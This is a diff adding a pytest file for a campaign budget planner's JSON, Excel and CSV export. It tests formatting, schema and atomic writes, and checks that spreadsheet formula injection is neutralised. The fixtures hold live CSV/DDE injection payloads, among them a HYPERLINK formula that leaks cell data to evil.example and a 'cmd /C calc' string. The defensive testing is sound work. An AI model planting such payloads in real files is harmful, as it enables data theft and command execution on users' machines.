@@ -1,0 +1,387 @@
+"""plan.json / plan.xlsx / CSV export: content, formatting, injection safety, atomicity."""
+
+from __future__ import annotations
+
+import csv
+import json
+from datetime import date
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+import pytest
+import xlsxwriter
+from xlsxwriter.exceptions import DuplicateWorksheetName
+
+from planner.errors import InputError
+from planner.io import export
+from planner.io.atomic import atomic_path, atomic_write_text, ensure_not_input
+from planner.io.export import (
+    inert_text,
+    plan_json_schema,
+    plan_to_json,
+    write_csv,
+    write_plan,
+)
+from planner.models import DailySpend, Order, Plan, Reason, VideoSummary
+from planner.tools import Tool
+
+SCHEMA_FILE = Path(__file__).resolve().parents[1] / "schema" / "plan.schema.json"
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我领券")'
+PLUS = "+1 加购"
+AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
+CHINESE = "达人种草 · 小黄车 美妆护肤"
+
+
+def _plan() -> Plan:
+    return Plan(
+        campaign="双11 美妆",
+        chain="tmall",
+        plan_date=date(2024, 11, 1),
+        status="optimal",
+        solver="highs",
+        budget=200_000.0,
+        total_spend=180_000.0,
+        unspent=20_000.0,
+        binding=["budget", "content_service minimum 50,000 yuan"],
+        expected_gmv=396_000.0,
+        bound_gmv=400_000.0,
+        gap=0.01,
+        roi_floor=1.2,
+        roi_floor_source="campaign.yaml",
+        expected_roi=2.2,
+        seeding_share=0.62,
+        kol_fees=30_000.0,
+        solve_seconds=0.42,
+        assumptions=["CPM 40 yuan", AT_SUM],
+        orders=[
+            Order(
+                video_id="v1",
+                tool=Tool.DOU_PLUS,
+                start_date=date(2024, 11, 2),
+                end_date=date(2024, 11, 4),
+                booking_date=date(2024, 11, 1),
+                budget=30_000.0,
+                mode="smart",
+                targeting=PLUS,
+                expected_gmv=66_000.0,
+                reasons=[
+                    Reason(code="ROI_ABOVE_FLOOR", text=CHINESE),
+                    Reason(code="INJECT", text=HYPERLINK),
+                ],
+            ),
+            Order(
+                video_id="v2",
+                tool=Tool.CONTENT_SERVICE,
+                start_date=date(2024, 11, 3),
+                end_date=date(2024, 11, 3),
+                booking_date=date(2024, 11, 1),
+                budget=150_000.0,
+                expected_gmv=330_000.0,
+                fixed=True,
+                reasons=[Reason(code="BOOKED", text="已预订，不可修改")],
+            ),
+        ],
+        daily=[
+            DailySpend(
+                date=date(2024, 11, 3),
+                video_id="v2",
+                tool=Tool.CONTENT_SERVICE,
+                spend=150_000.0,
+                expected_gmv=330_000.0,
+            ),
+            DailySpend(
+                date=date(2024, 11, 2),
+                video_id="v1",
+                tool=Tool.DOU_PLUS,
+                spend=10_000.0,
+                expected_gmv=22_000.0,
+            ),
+            DailySpend(
+                date=date(2024, 11, 3),
+                video_id="v1",
+                tool=Tool.DOU_PLUS,
+                spend=20_000.0,
+                expected_gmv=44_000.0,
+            ),
+        ],
+        videos=[
+            VideoSummary(
+                video_id="v1",
+                gpm=80.0,
+                traffic_roi=2.0,
+                tier="mid",
+                eligible_tools=[Tool.DOU_PLUS, Tool.CONTENT_SERVICE],
+                reasons=[Reason(code="GPM", text=HYPERLINK)],
+            ),
+            VideoSummary(
+                video_id="v2",
+                gpm=88.0,
+                traffic_roi=2.2,
+                tier="head",
+                eligible_tools=[Tool.CONTENT_SERVICE],
+                reasons=[],
+            ),
+        ],
+    )
+
+
+def _snapshot(directory: Path) -> dict[str, bytes]:
+    return {p.name: p.read_bytes() for p in sorted(directory.iterdir())}
+
+
+def _header(ws: openpyxl.worksheet.worksheet.Worksheet) -> list[object]:
+    return [c.value for c in ws[1]]
+
+
+def _column(ws: openpyxl.worksheet.worksheet.Worksheet, name: str) -> list[openpyxl.cell.Cell]:
+    idx = _header(ws).index(name) + 1
+    return [row[0] for row in ws.iter_rows(min_row=2, min_col=idx, max_col=idx)]
+
+
+@pytest.fixture
+def workbook(tmp_path: Path) -> openpyxl.Workbook:
+    extra = {"Links": pd.DataFrame({"video_id": ["v1"], "url": ["=1+1"], "budget": [1234.5]})}
+    paths = write_plan(_plan(), tmp_path / "out", extra_sheets=extra)
+    assert paths == {"json": tmp_path / "out" / "plan.json", "xlsx": tmp_path / "out" / "plan.xlsx"}
+    return openpyxl.load_workbook(paths["xlsx"])
+
+
+def test_sheet_names_in_order_with_extras_last(workbook: openpyxl.Workbook) -> None:
+    assert workbook.sheetnames == ["Summary", "Orders", "Daily schedule", "Videos", "Links"]
+
+
+def test_every_sheet_has_a_frozen_bold_header(workbook: openpyxl.Workbook) -> None:
+    for ws in workbook.worksheets:
+        assert ws.freeze_panes == "A2", ws.title
+        assert all(c.font.bold for c in ws[1] if c.value is not None), ws.title
+        assert ws.auto_filter.ref, ws.title
+
+
+def test_no_formulas_and_injection_text_kept_verbatim(workbook: openpyxl.Workbook) -> None:
+    texts: list[str] = []
+    for ws in workbook.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    texts.append(cell.value)
+    blob = "\n".join(texts)
+    for dangerous in (HYPERLINK, PLUS, AT_SUM, "=1+1"):
+        assert dangerous in blob
+    # Kept exactly, not prefixed with a quote.
+    assert PLUS in texts
+    assert AT_SUM in texts
+    assert "=1+1" in texts
+
+
+def test_orders_sheet_content_and_formats(workbook: openpyxl.Workbook) -> None:
+    ws = workbook["Orders"]
+    assert _header(ws) == [
+        "video_id",
+        "tool",
+        "tool_zh",
+        "start_date",
+        "end_date",
+        "booking_date",
+        "budget",
+        "mode",
+        "targeting",
+        "expected_gmv",
+        "expected_roi",
+        "fixed",
+        "reasons",
+    ]
+    assert [c.value for c in _column(ws, "tool_zh")] == ["DOU+", "内容服务"]
+    budget = _column(ws, "budget")
+    assert [c.value for c in budget] == [30_000, 150_000]
+    assert all("#,##0" in c.number_format for c in budget)
+    assert all("#,##0" in c.number_format for c in _column(ws, "expected_gmv"))
+    roi = _column(ws, "expected_roi")
+    assert roi[0].value == pytest.approx(2.2)
+    assert roi[0].number_format == "0.00"
+    start = _column(ws, "start_date")[0]
+    assert start.is_date and start.value.date() == date(2024, 11, 2)
+    assert start.number_format == "yyyy-mm-dd"
+    reasons = _column(ws, "reasons")[0].value
+    assert reasons == f"ROI_ABOVE_FLOOR: {CHINESE}\nINJECT: {HYPERLINK}"
+    assert [c.value for c in _column(ws, "fixed")] == [False, True]
+    # xlsxwriter stores the character width plus its 0.71 cell padding.
+    assert 40 < ws.column_dimensions["M"].width < 61
+
+
+def test_daily_sheet_is_long_and_sorted_by_date(workbook: openpyxl.Workbook) -> None:
+    ws = workbook["Daily schedule"]
+    assert _header(ws) == ["date", "video_id", "tool", "spend", "expected_gmv"]
+    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=2)]
+    assert [(r[0].date(), r[1]) for r in rows] == [
+        (date(2024, 11, 2), "v1"),
+        (date(2024, 11, 3), "v1"),
+        (date(2024, 11, 3), "v2"),
+    ]
+    assert all("#,##0" in c.number_format for c in _column(ws, "spend"))
+
+
+def test_videos_sheet(workbook: openpyxl.Workbook) -> None:
+    ws = workbook["Videos"]
+    assert _header(ws) == ["video_id", "tier", "gpm", "traffic_roi", "eligible_tools", "reasons"]
+    assert [c.value for c in _column(ws, "eligible_tools")] == [
+        "dou_plus, content_service",
+        "content_service",
+    ]
+    assert _column(ws, "gpm")[0].number_format == "0.00"
+
+
+def test_summary_sheet(workbook: openpyxl.Workbook) -> None:
+    ws = workbook["Summary"]
+    values = {r[0].value: r[1] for r in ws.iter_rows(min_row=2) if r[0].value}
+    assert values["Campaign"].value == "双11 美妆"
+    assert values["Budget (yuan)"].value == 200_000
+    assert "#,##0" in values["Budget (yuan)"].number_format
+    assert values["Seeding share"].number_format == "0.0%"
+    assert values["Gap to bound"].number_format == "0.0%"
+    assert values["Expected ROI"].number_format == "0.00"
+    assert values["Plan date"].is_date
+    column_b = [r[1].value for r in ws.iter_rows(min_row=2)]
+    assert "budget" in column_b and "CPM 40 yuan" in column_b and AT_SUM in column_b
+    assert "Binding limits" in values and "Assumptions" in values
+
+
+def test_chinese_width_counts_double() -> None:
+    assert export._text_width("千川") == 4
+    assert export._text_width("ab") == 2
+
+
+def test_plan_json_round_trips(tmp_path: Path) -> None:
+    plan = _plan()
+    paths = write_plan(plan, tmp_path)
+    text = paths["json"].read_text(encoding="utf-8")
+    assert text == plan_to_json(plan)
+    assert Plan.model_validate(json.loads(text)) == plan
+    assert Plan.model_validate_json(text) == plan
+
+
+def test_same_plan_gives_same_bytes(tmp_path: Path) -> None:
+    write_plan(_plan(), tmp_path / "a")
+    write_plan(_plan(), tmp_path / "b")
+    assert _snapshot(tmp_path / "a") == _snapshot(tmp_path / "b")
+
+
+def test_committed_schema_matches_model() -> None:
+    committed = json.loads(SCHEMA_FILE.read_text(encoding="utf-8"))
+    assert committed == plan_json_schema(), (
+        "schema/plan.schema.json is stale; regenerate it from "
+        "planner.io.export.plan_json_schema() (json.dumps(indent=2, ensure_ascii=False))."
+    )
+
+
+def test_failed_xlsx_leaves_previous_files_and_no_temp(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    write_plan(_plan(), tmp_path)
+    before = _snapshot(tmp_path)
+    assert set(before) == {"plan.json", "plan.xlsx"}
+
+    def broken_close(self: xlsxwriter.Workbook) -> None:
+        # Simulates a crash halfway through saving: some bytes, then an error.
+        Path(self.filename).write_bytes(b"PK\x03\x04 partial")
+        raise OSError("disk full")
+
+    monkeypatch.setattr(xlsxwriter.Workbook, "close", broken_close)
+    changed = _plan().model_copy(update={"campaign": "changed"})
+    with pytest.raises(OSError, match="disk full"):
+        write_plan(changed, tmp_path)
+    assert _snapshot(tmp_path) == before
+
+
+def test_bad_extra_sheet_leaves_previous_files(tmp_path: Path) -> None:
+    write_plan(_plan(), tmp_path)
+    before = _snapshot(tmp_path)
+    with pytest.raises(DuplicateWorksheetName, match=r"(?i)summary"):
+        write_plan(_plan(), tmp_path, extra_sheets={"Summary": pd.DataFrame({"a": [1]})})
+    assert _snapshot(tmp_path) == before
+
+
+def test_refuses_to_overwrite_an_input(tmp_path: Path) -> None:
+    videos = tmp_path / "plan.json"
+    videos.write_text("not really a plan", encoding="utf-8")
+    with pytest.raises(InputError, match="overwrite"):
+        write_plan(_plan(), tmp_path, inputs=[tmp_path / "sub" / ".." / "plan.json"])
+    assert videos.read_text(encoding="utf-8") == "not really a plan"
+    assert _snapshot(tmp_path) == {"plan.json": b"not really a plan"}
+
+
+def test_ensure_not_input_allows_distinct_files(tmp_path: Path) -> None:
+    ensure_not_input([tmp_path / "plan.xlsx"], [tmp_path / "videos.csv"])
+    with pytest.raises(InputError):
+        ensure_not_input([tmp_path / "x.csv"], [str(tmp_path / "x.csv")])
+
+
+def test_atomic_path_removes_temp_on_error(tmp_path: Path) -> None:
+    target = tmp_path / "a.txt"
+    atomic_write_text(target, "old")
+    with pytest.raises(RuntimeError), atomic_path(target) as tmp:
+        assert tmp.parent == tmp_path and tmp.suffix == ".txt"
+        tmp.write_text("new", encoding="utf-8")
+        raise RuntimeError("boom")
+    assert [p.name for p in tmp_path.iterdir()] == ["a.txt"]
+    assert target.read_text(encoding="utf-8") == "old"
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("=HYPERLINK(1)", "'=HYPERLINK(1)"),
+        ("+1", "'+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("千川 ROI", "千川 ROI"),
+        ("a=b", "a=b"),
+        ("", ""),
+    ],
+    ids=["eq", "plus", "minus", "at", "tab", "cr", "chinese", "inner-eq", "empty"],
+)
+def test_inert_text(text: str, expected: str) -> None:
+    assert inert_text(text) == expected
+
+
+def test_write_csv_is_bom_utf8_and_inert(tmp_path: Path) -> None:
+    df = pd.DataFrame(
+        {
+            "kol_name": [HYPERLINK, "小美"],
+            "product": [PLUS, None],
+            "budget": [-100.0, 2.5],
+        }
+    )
+    path = tmp_path / "links.csv"
+    write_csv(df, path)
+    raw = path.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))
+    assert rows[0] == ["kol_name", "product", "budget"]
+    assert rows[1] == ["'" + HYPERLINK, "'" + PLUS, "-100.0"]
+    assert rows[2] == ["小美", "", "2.5"]
+    # The caller's frame is not modified.
+    assert df.loc[0, "kol_name"] == HYPERLINK
+
+
+def test_extra_sheet_keeps_index_dates_and_blanks(tmp_path: Path) -> None:
+    kpi = pd.DataFrame(
+        {
+            "day": pd.to_datetime(["2024-11-01", "2024-11-02"]),
+            "actual_roi": [1.5, float("nan")],
+            "note": pd.array(["@SUM(A1)", None], dtype="string"),
+        },
+        index=pd.Index(["v1", "v2"], name="video_id"),
+    )
+    paths = write_plan(_plan(), tmp_path, extra_sheets={"KPI": kpi})
+    ws = openpyxl.load_workbook(paths["xlsx"])["KPI"]
+    assert _header(ws) == ["video_id", "day", "actual_roi", "note"]
+    day = _column(ws, "day")[0]
+    assert day.is_date and day.number_format == "yyyy-mm-dd"
+    assert [c.value for c in _column(ws, "actual_roi")] == [1.5, None]
+    assert [c.value for c in _column(ws, "note")] == ["@SUM(A1)", None]
